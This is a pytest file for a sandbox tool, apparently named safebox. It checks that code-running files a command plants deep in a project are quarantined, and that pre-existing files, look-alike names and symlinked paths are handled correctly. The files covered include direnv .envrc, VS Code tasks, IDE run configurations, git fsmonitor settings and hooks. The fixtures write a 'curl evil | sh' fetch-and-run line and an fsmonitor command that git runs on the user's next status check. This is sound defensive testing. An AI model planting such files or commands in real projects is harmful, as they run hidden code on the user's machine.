"""Files that run code, planted deeper than the top of a write root (issue 22, item 4).

Before the fix the post-run watch quarantined protected names only at the top
of each write root: a command could leave ``sub/.envrc`` (direnv runs it on
``cd``), ``sub/.vscode/tasks.json`` (the editor runs it when the folder is
opened), ``.idea`` run configurations, or a new nested repository whose
``.git/config`` names a ``core.fsmonitor`` (git runs it at the user's next
``git status`` there, a shell prompt's included). Now every such name the
command creates, at any depth of every write root, is moved to the
quarantine and the summary names where it went (``safebox.builder.deepwatch``).

The controls: the same files written by the same commands without safebox
stay, and git then runs the fsmonitor; files under other names at depth, and
watched files that existed before the run, stay where they are.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from sbx import BOTH, BWRAP_ONLY, HELPER_ONLY, FakeHome, host, wait_for

#: (the file the command writes, the path safebox moves: the file itself, or
#: the new directory holding it when that directory is what runs code).
PLANTED = [
    ("sub/.envrc", "sub/.envrc"),
    ("sub/deeper/.envrc", "sub/deeper/.envrc"),
    ("sub/.vscode/tasks.json", "sub/.vscode/tasks.json"),
    ("sub/deeper/.vscode/settings.json", "sub/deeper/.vscode/settings.json"),
    ("sub/deeper/.vscode/launch.json", "sub/deeper/.vscode/launch.json"),
    ("sub/.idea/workspace.xml", "sub/.idea/workspace.xml"),
    ("sub/deeper/.idea/runConfigurations/Build.xml", "sub/deeper/.idea/runConfigurations"),
    ("sub/new/.git/config", "sub/new/.git/config"),
    ("sub/deeper/new/.git/hooks/post-checkout", "sub/deeper/new/.git/hooks"),
]
MOVED = "safebox: the command created protected file {}; moved it to "


def _moved_to(stderr: str, path: Path) -> Path:
    prefix = MOVED.format(path)
    line = next((ln for ln in stderr.splitlines() if ln.startswith(prefix)), None)
    assert line is not None, stderr
    return Path(line[len(prefix):])


@pytest.mark.parametrize(("planted", "moved"), PLANTED)
def test_a_file_that_runs_code_planted_at_depth_is_quarantined_and_the_summary_says_where(
        fresh_home: FakeHome, planted: str, moved: str) -> None:
    work = fresh_home.work
    script = f"mkdir -p $(dirname {planted}) && echo 'curl evil | sh' > {planted} && echo ok > sub/notes.txt"
    r = fresh_home.run(["sh", "-c", script])
    assert r.returncode == 0, r.stderr
    assert (work / "sub" / "notes.txt").read_text() == "ok\n"  # control: the rest of the run stays
    assert not (work / moved).exists()
    dest = _moved_to(r.stderr, work / moved)
    # The line is true: the file is there, with what the command wrote.
    inside = dest / os.path.relpath(planted, moved) if moved != planted else dest
    assert inside.read_text() == "curl evil | sh\n"
    assert str(dest).startswith(str(fresh_home.root / ".cache" / "safebox" / "quarantine") + "/")


def test_control_without_safebox_the_same_files_stay_in_the_tree(fresh_home: FakeHome) -> None:
    work = fresh_home.work
    for planted, _ in PLANTED:
        r = host(["sh", "-c", f"mkdir -p $(dirname {planted}) && echo 'curl evil | sh' > {planted}"], cwd=work)
        assert r.returncode == 0, r.stderr
        assert (work / planted).read_text() == "curl evil | sh\n"


@pytest.mark.parametrize("mode", [BOTH, HELPER_ONLY])
def test_a_planted_envrc_far_below_the_search_depth_is_quarantined(fresh_home: FakeHome, mode: str) -> None:
    """Deeper than the start's protected-name search (six levels and three):
    the watch covers every depth the walk sees."""
    deep = "/".join(f"d{i}" for i in range(14))
    r = fresh_home.run(["sh", "-c", f"mkdir -p {deep} && echo evil > {deep}/.envrc"], mode=mode)
    assert r.returncode == 0, r.stderr
    assert not (fresh_home.work / deep / ".envrc").exists()
    assert _moved_to(r.stderr, fresh_home.work / deep / ".envrc").read_text() == "evil\n"


FSMONITOR = "git init -q sub/new && git -C sub/new config core.fsmonitor 'touch {marker}; false'"


@pytest.mark.parametrize("mode", [BOTH, BWRAP_ONLY, HELPER_ONLY])
def test_a_repository_made_at_depth_does_not_run_its_fsmonitor_at_the_users_next_git_status(
        fresh_home: FakeHome, mode: str) -> None:
    marker = fresh_home.root / "fsmonitor-ran"  # outside every write root: only the host can make it
    work = fresh_home.work
    r = fresh_home.run(["sh", "-c", FSMONITOR.format(marker=marker)], mode=mode)
    assert r.returncode == 0, r.stderr
    dest = _moved_to(r.stderr, work / "sub" / "new" / ".git" / "config")
    assert "fsmonitor = \"touch" in dest.read_text()
    # The new repository's sample hooks went with its hooks directory.
    assert _moved_to(r.stderr, work / "sub" / "new" / ".git" / "hooks").is_dir()
    # The user cds in; their prompt (or they) run git status.
    st = host(["git", "status", "--short"], cwd=work / "sub" / "new", env=fresh_home.env())
    assert st.returncode == 0, st.stderr
    assert not marker.exists()


def test_control_without_safebox_the_same_repository_runs_its_fsmonitor_at_git_status(
        fresh_home: FakeHome) -> None:
    marker = fresh_home.root / "fsmonitor-ran"
    work = fresh_home.work
    made = host(["sh", "-c", FSMONITOR.format(marker=marker)], cwd=work, env=fresh_home.env())
    assert made.returncode == 0, made.stderr
    host(["git", "status", "--short"], cwd=work / "sub" / "new", env=fresh_home.env())
    assert marker.exists()


@pytest.mark.parametrize("path", ["sub/.envrc", "sub/deeper/.vscode/tasks.json", "sub/.idea/workspace.xml",
                                  "sub/old/.git/config", "sub/old/.git/hooks/pre-commit"])
def test_an_existing_file_that_runs_code_at_depth_is_read_only_inside(fresh_home: FakeHome, path: str) -> None:
    work = fresh_home.work
    if "/.git/" in path:
        git = work / "sub" / "old" / ".git"
        for d in ("hooks", "objects", "refs"):
            (git / d).mkdir(parents=True)
        (git / "HEAD").write_text("ref: refs/heads/main\n")
    (work / path).parent.mkdir(parents=True, exist_ok=True)
    (work / path).write_text("mine\n")
    r = fresh_home.run(["sh", "-c", f"echo ok > sub/notes.txt; echo evil >> {path}"])
    assert (work / "sub" / "notes.txt").read_text() == "ok\n"  # control: sub/ is writable
    assert r.returncode != 0
    assert f"{path}: Read-only file system" in r.stderr, r.stderr
    assert (work / path).read_text() == "mine\n"
    assert "moved it to" not in r.stderr


def test_files_the_command_creates_at_depth_under_other_names_stay(fresh_home: FakeHome) -> None:
    """No false quarantine: names that look alike but run nothing on entering
    or opening a directory."""
    names = ["sub/notes.txt", "sub/envrc", "sub/.envrc.example", "sub/.vscode/extensions.json",
             "sub/deeper/config", "sub/deeper/hooks/pre-commit", "sub/deeper/.idea/misc.xml",
             "sub/deeper/.github/workflows/ci.yml", "sub/git/config"]
    script = " && ".join(f"mkdir -p $(dirname {n}) && echo made > {n}" for n in names)
    r = fresh_home.run(["sh", "-c", script])
    assert r.returncode == 0, r.stderr
    for n in names:
        assert (fresh_home.work / n).read_text() == "made\n", n
    assert "moved it to" not in r.stderr, r.stderr


def test_watched_files_that_existed_before_the_run_stay_when_the_command_writes_beside_them(
        fresh_home: FakeHome) -> None:
    """Below the search depth nothing is bound read-only; the command writes
    in the same directories (their ctime changes), and what was there
    before is not taken for planted: only what is new is moved."""
    deep = fresh_home.work / "/".join(f"d{i}" for i in range(12))
    git = deep / "repo" / ".git"
    for d in ("hooks", "objects", "refs"):
        (git / d).mkdir(parents=True)
    (git / "HEAD").write_text("ref: refs/heads/main\n")
    (git / "config").write_text("[core]\n\tbare = false\n")
    (git / "hooks" / "pre-push").write_text("#!/bin/sh\n")
    (deep / ".envrc").write_text("use nix\n")
    (deep / ".vscode").mkdir()
    (deep / ".vscode" / "settings.json").write_text("{}\n")
    rel = os.path.relpath(deep, fresh_home.work)
    script = (f"echo x > {rel}/notes.txt && echo y > {rel}/repo/.git/FETCH_HEAD && echo z > {rel}/.vscode/x"
              f" && echo w > {rel}/repo/.git/hooks/post-merge")
    r = fresh_home.run(["sh", "-c", script])
    assert r.returncode == 0, r.stderr
    assert (deep / ".envrc").read_text() == "use nix\n"
    assert (git / "config").read_text() == "[core]\n\tbare = false\n"
    assert (git / "hooks" / "pre-push").exists()
    assert (deep / ".vscode" / "settings.json").read_text() == "{}\n"
    assert (deep / "notes.txt").exists() and (git / "FETCH_HEAD").exists()  # control: the writes landed
    # The one new hook is moved, alone.
    assert not (git / "hooks" / "post-merge").exists()
    assert _moved_to(r.stderr, git / "hooks" / "post-merge").read_text() == "w\n"
    assert r.stderr.count("moved it to") == 1, r.stderr


def test_the_quarantine_at_depth_never_follows_a_parent_the_command_replaced_with_a_symlink(
        fresh_home: FakeHome) -> None:
    """``sub/a/b`` existed; the command replaces ``sub/a`` with a link to a
    directory of the user's outside the write root, where a ``.envrc`` of
    theirs lies in a ``b/`` that changed during the run. The check after
    the run lists ``sub/a/b`` by its old path and finds that ``.envrc``; the
    move, made through descriptors opened without following links from the
    write root down, refuses, and says so. The user's file stays."""
    work = fresh_home.work
    (work / "sub" / "a" / "b").mkdir(parents=True)
    outside = fresh_home.root / "elsewhere"
    (outside / "b").mkdir(parents=True)
    ready, go = work / "ready", work / "go"
    proc = fresh_home.popen(["sh", "-c", f"rm -rf sub/a && ln -s {outside} sub/a && touch {ready} && "
                                         f"while [ ! -e {go} ]; do sleep 0.05; done"])
    try:
        assert wait_for(ready.exists, 30)
        (outside / "b" / ".envrc").write_text("the user's own\n")  # b/ changes during the run
        go.touch()
        _, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
    assert proc.returncode == 0, err
    assert (outside / "b" / ".envrc").read_text() == "the user's own\n"
    assert (f"a directory on the way to protected path {work}/sub/a/b/.envrc was replaced by a symlink "
            "during the run; nothing moved there") in err, err
    assert "moved it to" not in err


def test_a_file_planted_at_depth_before_safebox_was_sigkilled_is_quarantined_at_the_next_start(
        fresh_home: FakeHome) -> None:
    """No end of run: the killed run's watch file keeps the start's clock and
    the watched entries it saw, and the next start walks the roots whole."""
    planted = fresh_home.work / "sub" / "deeper" / ".envrc"
    ready = fresh_home.work / "planted"
    proc = fresh_home.popen(["sh", "-c", f"mkdir -p {planted.parent} && echo evil > {planted}; touch {ready}; "
                                         "sleep 60"])
    try:
        assert wait_for(ready.exists, 30)
        proc.kill()
        proc.communicate()
        assert planted.read_text() == "evil\n"  # the attack: nothing ended the run
        r = fresh_home.run(["true"])
        assert r.returncode == 0, r.stderr
        assert not planted.exists()
        prefix = f"safebox: a killed earlier run's command created protected file {planted}; moved it to "
        line = next((ln for ln in r.stderr.splitlines() if ln.startswith(prefix)), None)
        assert line is not None, r.stderr
        assert Path(line[len(prefix):]).read_text() == "evil\n"
    finally:
        proc.kill()
        proc.communicate()


def test_with_allow_git_config_a_new_repositorys_config_at_depth_stays_and_its_hooks_do_not(
        fresh_home: FakeHome) -> None:
    """``filesystem.allowGitConfig`` makes every git dir's config the
    command's to write (docs/policy-reference.md); the watch at depth keeps
    to it, and still moves the hooks."""
    policy = fresh_home.root / "policy.json"
    policy.write_text(json.dumps({"filesystem": {"allowGitConfig": True}}))
    work = fresh_home.work
    r = fresh_home.run(["sh", "-c", "git init -q sub/new && echo evil > sub/new/.git/hooks/pre-commit"],
                       opts=["-p", str(policy)])
    assert r.returncode == 0, r.stderr
    assert (work / "sub" / "new" / ".git" / "config").exists()
    assert not (work / "sub" / "new" / ".git" / "hooks").exists()
    assert (_moved_to(r.stderr, work / "sub" / "new" / ".git" / "hooks") / "pre-commit").read_text() == "evil\n"


def test_a_repository_hidden_in_a_directory_the_command_made_unreadable_is_still_found(
        fresh_home: FakeHome) -> None:
    """``chmod 0100 sub``: nobody can list ``sub``, but a path through it
    still works, and git in ``sub/new`` would read the planted config. As
    root safebox lists it anyway; as the user it opens it to its owner (the
    user: the command ran as them), checks it, sets the mode back (the next
    start then keeps it read-only, as any directory it cannot list) and
    says so."""
    work = fresh_home.work
    config = work / "sub" / "new" / ".git" / "config"
    r = fresh_home.run(["sh", "-c", f"{FSMONITOR.format(marker=fresh_home.root / 'ran')} && chmod 0100 sub"])
    assert r.returncode == 0, r.stderr
    assert not os.path.lexists(config)
    assert "fsmonitor" in _moved_to(r.stderr, config).read_text()
    assert (work / "sub").stat().st_mode & 0o777 == 0o100
    if os.geteuid() != 0:
        assert (f"safebox: the command made {work}/sub unreadable (mode 0100); safebox opened it to its owner "
                "(u+rwx) to check what is in it, then set the mode back") in r.stderr, r.stderr
    (work / "sub").chmod(0o755)


def test_a_users_envrc_symlink_at_depth_replaced_by_the_command_is_restored_and_not_quarantined_again(
        fresh_home: FakeHome) -> None:
    """``sub/.envrc -> envrc.shared`` is the user's (a protected symlink,
    restored after the run when replaced). The replacement goes to the
    quarantine once; the restored link, a new inode where the start saw
    the old one, stays."""
    sub = fresh_home.work / "sub"
    sub.mkdir()
    (sub / "envrc.shared").write_text("use nix\n")
    (sub / ".envrc").symlink_to("envrc.shared")
    r = fresh_home.run(["sh", "-c", "rm sub/.envrc && echo evil > sub/.envrc"])
    assert r.returncode == 0, r.stderr
    assert os.readlink(sub / ".envrc") == "envrc.shared"
    assert (sub / "envrc.shared").read_text() == "use nix\n"
    assert f"protected symlink {sub}/.envrc: the command replaced it; moved the replacement to " in r.stderr
    assert "created protected file" not in r.stderr, r.stderr
